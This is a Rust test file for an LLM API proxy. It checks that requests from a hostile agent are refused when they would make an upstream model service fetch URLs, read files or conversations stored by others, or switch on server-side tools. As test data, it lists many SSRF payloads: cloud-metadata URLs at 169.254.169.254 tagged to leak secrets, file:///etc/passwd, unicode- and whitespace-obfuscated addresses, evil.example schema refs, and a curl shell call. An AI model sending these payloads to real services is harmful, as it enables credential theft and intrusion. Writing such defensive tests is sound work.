//! What a hostile agent has an upstream do in its place: fetch an address, look up what others left there, use a tool of its own.

use placet_llm::wire::Wire;

use super::world::{Plan, Question, World, question};

const SCRIPT: &str = "[[turn]]\nwhen = ''\ntext = 'hi'\n";
/// Where a cloud hands out its credentials, with what leaks on the way there.
const EVIL: &str = "http://169.254.169.254/latest/meta-data?leak=SECRET";

/// A request with this piece of content, or these members, in it.
fn with(wire: Wire, piece: &str) -> Question {
    let (path, body) = match wire {
        Wire::Messages => {
            ("/v1/messages", r#"{"model":"m","max_tokens":9,"messages":[{"role":"user","content":[PIECE]}]}"#)
        }
        Wire::Chat => {
            ("/v1/chat/completions", r#"{"model":"m","max_tokens":9,"messages":[{"role":"user","content":[PIECE]}]}"#)
        }
        Wire::Responses => (
            "/v1/responses",
            r#"{"model":"m","max_output_tokens":9,"input":[{"type":"message","role":"user","content":[PIECE]}]}"#,
        ),
        Wire::Gemini => ("/v1beta/models/m:generateContent", r#"{"contents":[{"role":"user","parts":[PIECE]}]}"#),
    };
    Question { path: path.to_owned(), body: body.replace("PIECE", piece).replace("EVIL", EVIL) }
}

/// The same with more members at its top.
fn beside(wire: Wire, members: &str) -> Question {
    let Question { path, body } = with(wire, "");
    Question { path, body: body.replacen('{', &format!("{{{},", members.replace("EVIL", EVIL)), 1) }
}

fn opened(setting: &str) -> Plan {
    Plan { upstream: setting.to_owned(), ..Plan::default() }
}

/// Content that an upstream would fetch, wherever a format has room for it.
fn addresses() -> Vec<Question> {
    let pieces = [
        (Wire::Messages, r#"{"type":"image","source":{"type":"url","url":"EVIL"}}"#),
        (Wire::Messages, r#"{"type":"document","source":{"url":"EVIL","type":"url"}}"#),
        (Wire::Messages, r#"{"type":"image","source":{"type":"web_search_result","url":"EVIL"}}"#),
        (
            Wire::Messages,
            r#"{"type":"tool_result","tool_use_id":"t","content":[{"type":"image","source":{"type":"url","url":"EVIL"}}]}"#,
        ),
        (
            Wire::Messages,
            r#"{"type":"document","source":{"type":"content","content":[{"type":"image","source":{"type":"url","url":"EVIL"}}]}}"#,
        ),
        (
            Wire::Messages,
            r#"{"type":"im\u0061ge","sourc\u0065":{"type":"url","\u0075rl":"\u0068ttp:\/\/169.254.169.254"}}"#,
        ),
        (Wire::Messages, r#"{"type":"image","source":"EVIL"}"#),
        (Wire::Messages, r#"{"type":"image","source":[{"a":0},{"type":"web_search_result","url":"EVIL"}]}"#),
        (Wire::Messages, r#"{"type":"video","source":{"type":"of_tomorrow","place":"EVIL"}}"#),
        (Wire::Chat, r#"{"type":"image_url","image_url":{"url":"EVIL"}}"#),
        (Wire::Chat, r#"{"type":"image_url","image_url":"EVIL"}"#),
        (Wire::Chat, r#"{"type":"image_url","image_url":{"type":"url_citation","url":"EVIL"}}"#),
        (Wire::Chat, r#"{"type":"image_url","image_url":{"url":"//169.254.169.254/x"}}"#),
        (Wire::Chat, r#"{"type":"image_url","image_url":{"url":"file:///etc/passwd"}}"#),
        (
            Wire::Chat,
            r#"{"type":"image_url","image_url":{"url":"data:image/png;base64,AA"},"IMAGE_URL":{"URL":"EVIL"}}"#,
        ),
        (Wire::Chat, r#"{"type":"video_url","video_url":{"url":"EVIL"}}"#),
        (Wire::Chat, r#"{"type":"audio_url","audio_url":{"url":"EVIL"}}"#),
        (Wire::Chat, r#"{"type":"file","file":{"file_data":"EVIL","filename":"a.pdf"}}"#),
        (Wire::Chat, r#"{"type":"input_audio","input_audio":{"data":"EVIL","format":"wav"}}"#),
        (Wire::Chat, r#"{"type":"image","image":"  \n\tht\ntp://169.254.169.254/"}"#),
        (Wire::Chat, r#"{"type":"pictures","pictures":[["HTTPS://evil.example"]]}"#),
        (Wire::Responses, r#"{"type":"input_image","image_url":"EVIL"}"#),
        (Wire::Responses, r#"{"type":"input_file","file_url":"EVIL"}"#),
        (Wire::Responses, r#"{"type":"input_file","file_data":"gs://bucket/x"}"#),
        (Wire::Responses, r#"{"type":"x"},[{"type":"input_image","image_url":"EVIL"}]"#),
        (Wire::Gemini, r#"{"fileData":{"fileUri":"EVIL","mimeType":"image/png"}}"#),
        (Wire::Gemini, r#"{"file_data":{"file_uri":"gs://bucket/x"}}"#),
        (Wire::Gemini, r#"{"fileData":{"fileUri":"https://youtu.be/x"},"videoMetadata":{}}"#),
        (Wire::Gemini, r#"{"inlineData":{"mimeType":"image/png","data":"EVIL"}}"#),
        (Wire::Gemini, r#"{"functionResponse":{"name":"f","response":{},"parts":[{"fileData":{"fileUri":"EVIL"}}]}}"#),
    ];
    let members = [
        (Wire::Messages, r#""system":[{"type":"document","source":{"type":"url","url":"EVIL"}}]"#),
        (Wire::Messages, r#""tools":[{"name":"f","input_schema":{"properties":{"a":{"$ref":"EVIL"}}}}]"#),
        (
            Wire::Chat,
            r#""response_format":{"type":"json_schema","json_schema":{"name":"s","schema":{"$ref":"https://evil.example"}}}"#,
        ),
        (Wire::Responses, r#""reasoning":{"of_tomorrow":"EVIL"}"#),
        (Wire::Gemini, r#""systemInstruction":{"parts":[{"fileData":{"fileUri":"EVIL"}}]}"#),
    ];
    let tool_output = r#"{"model":"m","input":[{"type":"function_call_output","call_id":"c","output":[{"type":"input_image","image_url":"EVIL"}]},{"type":"computer_call_output","call_id":"c","output":{"type":"computer_screenshot","image_url":"EVIL"}}]}"#;
    let counted = r#"{"generateContentRequest":{"contents":[{"parts":[{"fileData":{"fileUri":"EVIL"}}]}]}}"#;
    let whole = [("/v1/responses", tool_output), ("/v1beta/models/m:countTokens", counted)]
        .map(|(path, body)| Question { path: path.to_owned(), body: body.replace("EVIL", EVIL) });
    let pieces = pieces.into_iter().map(|(wire, piece)| with(wire, piece));
    pieces.chain(members.into_iter().map(|(wire, members)| beside(wire, members))).chain(whole).collect()
}

/// What lies with the upstream, and did not come from this run.
fn stored() -> Vec<Question> {
    let pieces = [
        (Wire::Messages, r#"{"type":"document","source":{"type":"file","file_id":"file_of_somebody"}}"#),
        (Wire::Messages, r#"{"type":"container_upload","file_id":"file_of_somebody"}"#),
        (Wire::Chat, r#"{"type":"file","file":{"file_id":"file-of-somebody"}}"#),
        (Wire::Responses, r#"{"type":"input_file","file_id":"file-of-somebody"}"#),
        (Wire::Responses, r#"{"type":"input_image","file_id":"file-of-somebody"}"#),
    ];
    let members = [
        (Wire::Responses, r#""prompt":{"id":"pmpt_of_somebody","variables":{}}"#),
        (Wire::Responses, r#""conversation":"conv_of_somebody""#),
        (Wire::Responses, r#""conversation":{"id":"conv_of_somebody"}"#),
        (Wire::Gemini, r#""cachedContent":"cachedContents/of-somebody""#),
        (Wire::Gemini, r#""cached_content":"cachedContents/of-somebody""#),
    ];
    let pieces = pieces.into_iter().map(|(wire, piece)| with(wire, piece));
    pieces.chain(members.into_iter().map(|(wire, members)| beside(wire, members))).collect()
}

/// What looks like it and is not: content itself, texts for the model, arguments of the agent's own tools.
fn harmless() -> Vec<Question> {
    let pieces = [
        (Wire::Messages, r#"{"type":"image","source":{"type":"base64","media_type":"image/png","data":"//8A+/=="}}"#),
        (Wire::Messages, r#"{"type":"text","text":"EVIL"}"#),
        (
            Wire::Messages,
            r#"{"type":"document","source":{"type":"text","media_type":"text/plain","data":"see: EVIL"},"context":"EVIL"}"#,
        ),
        (
            Wire::Messages,
            r#"{"type":"tool_use","id":"t","name":"WebFetch","input":{"url":"EVIL","tools":["web_search"]}}"#,
        ),
        (Wire::Messages, r#"{"type":"tool_result","tool_use_id":"t","content":"EVIL"}"#),
        (Wire::Messages, r#"{"type":"search_result","source":"EVIL","title":"EVIL","content":[]}"#),
        (
            Wire::Messages,
            r#"{"type":"web_search_tool_result","tool_use_id":"t","content":[{"type":"web_search_result","url":"EVIL","title":"x"}]}"#,
        ),
        (Wire::Chat, r#"{"type":"image_url","image_url":{"url":"data:image/png;base64,AA==","detail":"low"}}"#),
        (Wire::Chat, r#"{"type":"image_url","image_url":{"url":"DATA:image\/png;base64,AA=="}}"#),
        (Wire::Chat, r#"{"type":"text","text":"EVIL"}"#),
        (
            Wire::Chat,
            r#"{"type":"file","file":{"file_data":"data:application/pdf;base64,AA==","filename":"C:/a.pdf"}}"#,
        ),
        (Wire::Responses, r#"{"type":"input_text","text":"EVIL"}"#),
        (Wire::Responses, r#"{"type":"input_image","image_url":"data:image/png;base64,AA==","file_id":null}"#),
        (Wire::Gemini, r#"{"inlineData":{"mimeType":"image/png","data":"iVBORw0KGgo="}}"#),
        (Wire::Gemini, r#"{"functionCall":{"name":"fetch","args":{"url":"EVIL"}}}"#),
        (Wire::Gemini, r#"{"functionResponse":{"name":"fetch","response":{"url":"EVIL"}}}"#),
    ];
    let members = [
        (
            Wire::Messages,
            r##""tools":[{"name":"f","description":"EVIL","input_schema":{"$schema":"http://json-schema.org/draft-07/schema#","properties":{"url":{"type":"string","default":"EVIL"},"tools":{"type":"array"},"x":{"$ref":"#/$defs/x"}}}}]"##,
        ),
        (Wire::Messages, r#""metadata":{"user_id":"EVIL"},"stop_sequences":["EVIL"]"#),
        (
            Wire::Chat,
            r#""metadata":{"a":"EVIL"},"stop":["EVIL"],"tools":[{"type":"function","function":{"name":"f","parameters":{"type":"object","properties":{"image_url":{"type":"string","examples":["EVIL"]}}}}}]"#,
        ),
        (
            Wire::Responses,
            r#""instructions":"EVIL","client_metadata":{"remote":"EVIL"},"previous_response_id":"resp_1""#,
        ),
    ];
    let earlier = r#"{"model":"m","input":[{"type":"function_call","call_id":"c","name":"f","arguments":"{\"url\":\"EVIL\"}"},{"type":"function_call_output","call_id":"c","output":"EVIL"},{"type":"local_shell_call","call_id":"c","action":{"type":"exec","command":["curl","EVIL"],"env":{"PROXY":"EVIL"}}},{"type":"message","role":"assistant","content":[{"type":"output_text","text":"EVIL","annotations":[{"type":"url_citation","url":"EVIL"}]}]}]}"#;
    let earlier = Question { path: "/v1/responses".to_owned(), body: earlier.replace("EVIL", EVIL) };
    let pieces = pieces.into_iter().map(|(wire, piece)| with(wire, piece));
    pieces.chain(members.into_iter().map(|(wire, members)| beside(wire, members))).chain([earlier]).collect()
}

#[tokio::test]
async fn c12_no_upstream_fetches_an_address_that_an_agent_chose() {
    let world = World::of(&[SCRIPT]).await;
    for asked in addresses() {
        let reply = world.agent.ask(&asked).await;
        assert_eq!(reply.status, 403, "{}", asked.body);
        assert!(reply.message().contains("set `fetches = true`"), "{}: {}", asked.body, reply.message());
        assert!(!reply.message().contains("169.254"), "an address is not repeated: {}", reply.message());
    }
    assert!(world.upstreams[0].heard().is_empty());
}

#[tokio::test]
async fn c12_what_lies_with_an_upstream_is_not_for_every_run_to_name() {
    let world = World::of(&[SCRIPT]).await;
    for asked in stored() {
        let reply = world.agent.ask(&asked).await;
        assert_eq!(reply.status, 403, "{}", asked.body);
        assert!(reply.message().contains("set `stored = true`"), "{}: {}", asked.body, reply.message());
    }
    assert!(world.upstreams[0].heard().is_empty());
}

#[tokio::test]
async fn c12_content_itself_and_addresses_that_nobody_fetches_pass() {
    let world = World::of(&[SCRIPT]).await;
    for asked in harmless() {
        let reply = world.agent.ask(&asked).await;
        assert_eq!(reply.status, 200, "{}: {:?}", asked.body, reply.body);
    }
}

#[tokio::test]
async fn c12_a_team_may_let_an_upstream_fetch_and_use_what_lies_there() {
    let world = World::planned(&[SCRIPT], opened("fetches = true")).await;
    for asked in addresses() {
        let reply = world.agent.ask(&asked).await;
        assert_eq!(reply.status, 200, "{}: {:?}", asked.body, reply.body);
    }
    for asked in stored() {
        assert_eq!(world.agent.ask(&asked).await.status, 403, "one is not the other: {}", asked.body);
    }
    let world = World::planned(&[SCRIPT], opened("stored = true")).await;
    for asked in stored() {
        let reply = world.agent.ask(&asked).await;
        assert_eq!(reply.status, 200, "{}: {:?}", asked.body, reply.body);
    }
    let heard = world.upstreams[0].heard().len();
    let both = r#"{"type":"input_image","file_id":"file-x","image_url":"EVIL"}"#;
    assert_eq!(world.agent.ask(&with(Wire::Responses, both)).await.status, 403, "one does not hide the other");
    for asked in addresses() {
        assert_eq!(world.agent.ask(&asked).await.status, 403, "{}", asked.body);
    }
    assert_eq!(world.upstreams[0].heard().len(), heard);
}

#[tokio::test]
async fn c12_a_tool_of_the_upstream_is_found_wherever_tools_can_stand() {
    let world = World::of(&[SCRIPT]).await;
    let hidden = [
        beside(Wire::Messages, r#""tools":[{"type":"custom","type":"web_search_20250305","name":"x"}]"#),
        beside(Wire::Messages, r#""tools":[{"type":"bash_x","name":"x"}]"#),
        beside(Wire::Chat, r#""tools":[{"Type":"web_search"}]"#),
        beside(Wire::Chat, r#""tools":["web_search"]"#),
        beside(Wire::Chat, r#""tools":{"type":"web_search"}"#),
        beside(Wire::Responses, r#""tools":[[{"type":"web_search"}]]"#),
        beside(Wire::Responses, r#""tools":[{"type":"shell","environment":{"type":"container_auto","type":"local"}}]"#),
        beside(Wire::Gemini, r#""tools":[{"functionDeclarations":[],"googleSearch":{}}]"#),
        beside(Wire::Gemini, r#""tools":{"urlContext":{}}"#),
        Question {
            path: "/v1/responses".to_owned(),
            body: r#"{"model":"m","input":[{"type":"additional_tools","tools":[{"type":"web_search"}]}]}"#.to_owned(),
        },
        Question {
            path: "/v1/responses".to_owned(),
            body: r#"{"model":"m","input":[{"type":"tool_search_output","tools":[{"type":"namespace","tools":[{"type":"mcp"}]}]}]}"#
                .to_owned(),
        },
    ];
    for asked in hidden {
        let reply = world.agent.ask(&asked).await;
        assert_eq!(reply.status, 403, "{}: {}", asked.body, reply.message());
        assert!(reply.message().contains("set `server_tools = true`"), "{}: {}", asked.body, reply.message());
    }
    // A server that the agent names is an address beside a tool.
    let world = World::planned(&[SCRIPT], opened("server_tools = true")).await;
    let named = beside(Wire::Responses, r#""tools":[{"type":"mcp","server_url":"https://evil.example"}]"#);
    assert!(world.agent.ask(&named).await.message().contains("set `fetches = true`"));
    assert!(world.upstreams[0].heard().is_empty());
}

#[tokio::test]
async fn c12_a_refusal_has_the_shape_of_each_agents_library() {
    let world = World::of(&[SCRIPT]).await;
    for (wire, piece, kind) in [
        (Wire::Messages, r#"{"source":{"url":"EVIL"}}"#, "permission_error"),
        (Wire::Chat, r#"{"image_url":"EVIL"}"#, "invalid_request_error"),
        (Wire::Responses, r#"{"image_url":"EVIL"}"#, "invalid_request_error"),
        (Wire::Gemini, r#"{"fileUri":"EVIL"}"#, "PERMISSION_DENIED"),
    ] {
        let error = world.agent.ask(&with(wire, piece)).await.json()["error"].clone();
        let named = if wire == Wire::Gemini { &error["status"] } else { &error["type"] };
        assert_eq!(named, kind, "{wire}");
    }
    assert_eq!(world.agent.ask(&question(Wire::Chat, false)).await.status, 200);
}
